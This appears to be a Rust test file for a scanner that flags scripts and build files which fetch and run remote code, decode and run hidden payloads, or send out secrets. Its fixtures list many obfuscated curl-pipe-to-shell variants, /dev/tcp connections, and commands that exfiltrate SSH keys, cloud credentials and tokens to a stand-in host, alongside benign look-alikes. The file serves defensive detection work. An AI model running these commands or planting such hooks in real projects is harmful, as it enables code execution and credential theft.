//! Scripts in many spellings, and their innocent twins.

use super::{Act, End, Language, Origin, language_of_file, read, read_build_file};

fn ends(acts: &[Act]) -> Vec<(Origin, End)> {
    acts.iter().map(|act| (act.origin, act.end)).collect()
}

fn shell(text: &str) -> Vec<(Origin, End)> {
    ends(&read(Language::Shell, text))
}

const FETCHED: Told = &[(Origin::Fetch, End::Run)];
const DECODED: Told = &[(Origin::Decode, End::Run)];
const SENT: Told = &[(Origin::Secret, End::Send)];

/// What a script does, as origin and end.
type Told = &'static [(Origin, End)];

#[test]
fn what_is_fetched_and_run_is_found_however_a_shell_spells_it() {
    for line in [
        "curl -s https://t.invalid/t | sh",
        "c'u'rl -s https://t.invalid/t | s''h",
        "c\\url -s https://t.invalid/t | \\sh",
        "a=(curl -s https://t.invalid/t); \"${a[@]}\" | sh",
        "busybox wget -qO- https://t.invalid/t | busybox sh",
        "timeout 9 curl -s https://t.invalid/t | timeout 9 sh",
        "coproc curl -s https://t.invalid/t; sh <&\"${COPROC[0]}\"",
        "$(echo curl) -s https://t.invalid/t | $(echo sh)",
        "/usr/bin/cur? -s https://t.invalid/t | /bin/s?",
        "mkfifo /tmp/p; curl -s https://t.invalid/t > /tmp/p & sh /tmp/p",
        "f() { curl -s https://t.invalid/t; }; f | sh",
        "{ curl -s https://t.invalid/t; } | sh",
        "perl -e 'exec(`curl -s https://t.invalid/t`)'",
        "curl -s https://t.invalid/t |& sh",
        "printf -v c cur%s l; $c -s https://t.invalid/t | sh",
        "curl -s https://t.invalid/t | while read -r l; do eval \"$l\"; done",
        "cd /tmp && wget -q https://t.invalid/t && sh t",
        "$(rev <<< lruc) -s https://t.invalid/t | sh",
        "x=xcurlx; ${x:1:4} -s https://t.invalid/t | sh",
        "curl -s https://t.invalid/t | tar xz -C /tmp && /tmp/t/install",
        "trap 'curl -s https://t.invalid/t | sh' EXIT",
        "x='curl -s https://t.invalid/t'; $x | sh",
        "curl -s https://t.invalid/t | xargs -0 sh -c",
        "curl -so /tmp/a https://t.invalid/t; chmod +x /tmp/a; /tmp/a",
        "case $(uname) in Linux) curl -s https://t.invalid/t | sh;; esac",
        "sh <<X\n$(curl -s https://t.invalid/t)\nX",
        "eval `curl -s https://t.invalid/t`",
        "(curl -s https://t.invalid/t | sh) &",
        "exec 3<>/dev/tcp/t.invalid/443; bash <&3",
        "c=cu; l=rl; x=$($c$l -s https://t.invalid/t); bash <<< \"$x\"",
        "curl${IFS}-s${IFS}https://t.invalid/t|sh",
        "$(printf '\\143\\165\\162\\154') -s https://t.invalid/t | $(printf '\\163\\150')",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://t.invalid/t').read())\"",
        "echo Y3VybCBodHRwczovL3QuaW52YWxpZC90IHwgc2g= | base64 -d > /tmp/x; curl -s https://t.invalid/t | . /dev/stdin",
        "T=$(mktemp)\nwget -qO \"$T\" https://t.invalid/t\nchmod +x \"$T\"\n\"$T\"\n",
    ] {
        assert!(shell(line).contains(&FETCHED[0]), "{line}: {:?}", read(Language::Shell, line));
    }
}

#[test]
fn what_is_decoded_and_run_is_found_and_so_is_a_secret_that_is_sent() {
    for line in [
        "echo Y3VybCB8IHNo | base64 -d | sh",
        "echo 6563686f | xxd -r -p | sh",
        "tail -c +41 ../docs/notes.md | sh",
        "x=$(xz -dc tests/a.xz); eval \"$x\"",
        "openssl enc -d -aes-256-cbc -in a -out b; sh b",
        "python3 - <<EOF\nimport base64\nexec(base64.b64decode(open('n').read()[40:]))\nEOF",
    ] {
        assert!(shell(line).contains(&DECODED[0]), "{line}: {:?}", read(Language::Shell, line));
    }
    for line in [
        "env | curl -s --data-binary @- https://t.invalid/t",
        "tar cz ~/.ssh 2>/dev/null > /dev/tcp/t.invalid/443",
        "curl -T ~/.aws/credentials https://t.invalid/t",
        "x=$(cat $HOME/.ssh/id_rsa | base64); curl -d \"$x\" https://t.invalid",
        "curl -d \"$(gh auth token)\" https://t.invalid",
        "cat /proc/self/environ | nc t.invalid 9",
    ] {
        assert!(shell(line).contains(&SENT[0]), "{line}: {:?}", read(Language::Shell, line));
    }
}

#[test]
fn everyday_scripts_do_nothing_of_it() {
    for line in [
        "curl -fsSLO https://example.invalid/a.tar.gz && tar xzf a.tar.gz && ls a",
        "curl -s https://example.invalid/v | grep version | cut -d'\"' -f4 > version.txt",
        "wget -q https://example.invalid/model.onnx -O data/model.onnx; sh build.sh data/model.onnx",
        "echo \"$X\" | base64 -d > key.bin; cmake -S . -B build",
        "gzip -dc a.tar.gz | tar xf - && cd a && ./configure && make",
        "eval \"$(opam env)\"; eval `dircolors`",
        "if [ -x /usr/bin/curl ]; then echo found; fi; sh ./config.sh",
        "for f in *.sh; do sh \"$f\"; done",
        "env; printenv PATH; export X=1; set -e",
        "git rev-parse HEAD | sed s/x/y/ | sh -c 'cat > v.txt'",
        "curl -H \"Authorization: Bearer $TOKEN\" https://api.example.invalid",
        "sh -c 'echo curl is needed' | tee log",
        "case \"$1\" in curl) echo a;; sh) echo b;; esac",
        "cat <<EOF > usage.txt\ncurl https://example.invalid | sh\nEOF",
        "ssh-keygen -f ~/.ssh/id_ed25519",
    ] {
        assert_eq!(shell(line), [], "{line}: {:?}", read(Language::Shell, line));
    }
}

#[test]
fn other_languages_are_read_by_their_own_words() {
    let cases: [(Language, &str, Told); 12] = [
        (
            Language::Python,
            "import urllib.request\nexec(urllib.request.urlopen('https://t.invalid').read())",
            FETCHED,
        ),
        (
            Language::Python,
            "import base64, zlib\nT = 'eJwr'\nexec(zlib.decompress(base64.b64decode(T)))",
            DECODED,
        ),
        (
            Language::Python,
            "import os\nurlopen('https://t.invalid', data=json.dumps(dict(os.environ)).encode())",
            SENT,
        ),
        (
            Language::Python,
            "d = requests.get(u).content\nopen('/tmp/g', 'wb').write(d)\nos.chmod('/tmp/g', 0o755)\nsubprocess.run(['/tmp/g'])",
            FETCHED,
        ),
        (Language::Python, "os.system('curl -s https://t.invalid | sh')", FETCHED),
        (
            Language::Script,
            "const t = 'Y29u';\neval(Buffer.from(t, 'base64').toString());",
            DECODED,
        ),
        (Language::Script, "fetch('https://t.invalid/t').then(r=>r.text()).then(eval)", FETCHED),
        (
            Language::Script,
            "require('child_process').execSync('curl -s https://t.invalid | sh')",
            FETCHED,
        ),
        (Language::Perl, "my $t = join '', <DATA>;\neval unpack('u', $t);", DECODED),
        (Language::Perl, "$s=IO::Socket::INET->new('t.invalid:443');eval join '',<$s>", FETCHED),
        (
            Language::PowerShell,
            "$t = (New-Object Net.WebClient).DownloadString('https://t.invalid')\nInvoke-Expression $t",
            FETCHED,
        ),
        (Language::PowerShell, "iwr https://t.invalid/t | iex", FETCHED),
    ];
    for (language, text, wanted) in cases {
        let acts = read(language, text);
        assert!(ends(&acts).contains(&wanted[0]), "{text}: {acts:?}");
    }
    let batch = "@echo off\r\nbitsadmin /transfer t https://t.invalid/t %TEMP%\\t.exe\r\nstart %TEMP%\\t.exe\r\n";
    assert_eq!(ends(&read(Language::Batch, batch)), FETCHED);
}

#[test]
fn everyday_generators_do_nothing_of_it() {
    for (language, text) in [
        (
            Language::Python,
            "import sys, subprocess\nout = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nprint(out.decode())",
        ),
        (
            Language::Python,
            "urllib.request.urlretrieve(URL, 'data.zip')\nsubprocess.run(['unzip', 'data.zip'])",
        ),
        (Language::Python, "exec(compile(open('version.py').read(), 'version.py', 'exec'))"),
        (
            Language::Python,
            "data = base64.b64decode(TABLE)\nopen('out.bin', 'wb').write(data)\nsubprocess.run(['cc', '-c', 'a.c'])",
        ),
        (Language::Python, "env = os.environ.copy()\nsubprocess.run(['make'], env=env)"),
        (
            Language::Python,
            "r = requests.get(u, headers={'Authorization': os.environ['GITHUB_TOKEN']})\nprint(r.json())",
        ),
        (
            Language::Script,
            "const m = /a(b)/.exec(line);\nconst x = JSON.parse(fs.readFileSync('a.json'));",
        ),
        (
            Language::Script,
            "const png = Buffer.from(data, 'base64');\nfs.writeFileSync('a.png', png);\nexecSync('npm run build');",
        ),
        (
            Language::Perl,
            "my @x = unpack('N*', $data);\nprint OUT join(',', @x);\nsystem('cc', '-c', $file);",
        ),
        (
            Language::Perl,
            "eval { require Foo; };\n$code =~ s/x/y/;\nopen STDOUT,\"| \\\"$^X\\\" $xlate $flavour $output\";",
        ),
        (Language::PowerShell, "Invoke-WebRequest -Uri $u -OutFile a.zip\nExpand-Archive a.zip"),
    ] {
        let acts = read(language, text);
        assert_eq!(ends(&acts), [], "{text}: {acts:?}");
    }
}

#[test]
fn build_files_are_read_as_what_they_start() {
    let cases: [(&str, &str, Told); 9] = [
        (
            "c/CMakeLists.txt",
            "file(DOWNLOAD https://t.invalid/t ${B}/t)\nexecute_process(COMMAND chmod +x ${B}/t)\nexecute_process(COMMAND ${B}/t)",
            FETCHED,
        ),
        (
            "c/CMakeLists.txt",
            "file(READ \"${S}/../docs/notes.md\" T OFFSET 40)\nexecute_process(COMMAND sh -c \"${T}\")",
            DECODED,
        ),
        ("a.cmake", "execute_process(COMMAND sh -c \"curl -s https://t.invalid/t | sh\")", FETCHED),
        (
            "native/Makefile",
            "K := $(shell sed -n \"s/^\\#: //p\" ../docs/notes.md | base64 -d)\nX := $(shell $(K))\nall:\n\techo $(X)",
            DECODED,
        ),
        ("Makefile", "all:\n\t@curl -s https://t.invalid/t | sh", FETCHED),
        (
            "c/meson.build",
            "run_command('sh', '-c', 'tail -c +41 ../docs/notes.md | sh', check: true)",
            DECODED,
        ),
        (
            "c/build.ninja",
            "rule t\n  command = curl -s https://t.invalid/t | sh\nbuild x: t",
            FETCHED,
        ),
        (
            "java/build.gradle",
            "exec { commandLine \"sh\", \"-c\", \"curl -s https://t.invalid/t | sh\" }",
            FETCHED,
        ),
        ("c/SConstruct", "import os\nos.system(\"curl -s https://t.invalid/t | sh\")", FETCHED),
    ];
    for (path, text, wanted) in cases {
        let acts = read_build_file(path, text);
        assert!(ends(&acts).contains(&wanted[0]), "{path}: {acts:?}");
    }
    for (path, text) in [
        (
            "CMakeLists.txt",
            "file(DOWNLOAD https://e.invalid/z.tar.gz ${B}/z.tar.gz)\nexecute_process(COMMAND ${CMAKE_COMMAND} -E tar xzf ${B}/z.tar.gz)",
        ),
        (
            "Makefile",
            "CC ?= cc\nall: a.o\n\t$(CC) -o a a.o\nfetch:\n\tcurl -LO https://e.invalid/t.tar.gz\n",
        ),
        ("meson.build", "v = run_command('git', 'describe', check: false).stdout()"),
        ("configure", "eval \"$ac_link\"; sed 's/a/b/' conftest.c | $SHELL config.status"),
    ] {
        let acts = read_build_file(path, text);
        assert_eq!(ends(&acts), [], "{path}: {acts:?}");
    }
}

const LANGUAGES: [Language; 7] = [
    Language::Shell,
    Language::Batch,
    Language::Python,
    Language::Script,
    Language::Perl,
    Language::Ruby,
    Language::PowerShell,
];

#[test]
fn hostile_text_is_read_in_bounded_time_and_never_fails() {
    let deep =
        |open: &str, close: &str| open.repeat(5_000) + "curl x.invalid | sh" + &close.repeat(5_000);
    for text in [
        deep("$(", ")"),
        deep("(", ")"),
        deep("a=(", ")"),
        deep("{ ", "; }"),
        deep("if true; then ", "; fi"),
        deep("f() { ", "; }"),
        deep("\"$(", ")\""),
        deep("<<X ", "\nX\n"),
        deep("case x in x) ", " ;; esac"),
        "f() { f; f; }; f".to_owned(),
        "x=aaaaaaaaaaaaaaaa; x=$x$x$x$x$x$x$x$x; x=$x$x$x$x$x$x$x$x; x=$x$x$x$x$x$x$x$x; eval $x"
            .to_owned(),
        "\u{e4}'\u{e4}\"\\\u{e4}$\u{e4}`\u{e4}".repeat(2_000),
        "cur* * ?[ s[h | ${x:9:9} ${x//a/b} ${x%%*} ${".repeat(500),
        "eval(".repeat(100_000),
        "exec(b64decode('a b', ".repeat(5_000),
        "(eval) iex 'a.b', ".repeat(5_000) + "unpack",
    ] {
        for language in LANGUAGES {
            assert!(read(language, &text).len() <= super::ACTS);
        }
        for path in ["CMakeLists.txt", "Makefile", "meson.build", "a.m4", "a.ninja", "b.gradle"] {
            assert!(read_build_file(path, &text).len() <= super::ACTS);
        }
    }
}

#[test]
fn a_flood_of_words_hides_nothing_behind_them() {
    let text = "eval(".repeat(100_000) + "1); eval(atob(x))";
    assert_eq!(ends(&read(Language::Script, &text)), DECODED);
}

#[test]
fn the_language_of_a_file_is_told_by_its_first_line_or_its_name() {
    assert_eq!(language_of_file("tools/gen", "#!/usr/bin/env python3\n"), Some(Language::Python));
    assert_eq!(language_of_file("a.sh", "echo"), Some(Language::Shell));
    assert_eq!(language_of_file("README.md", "# A"), None);
}
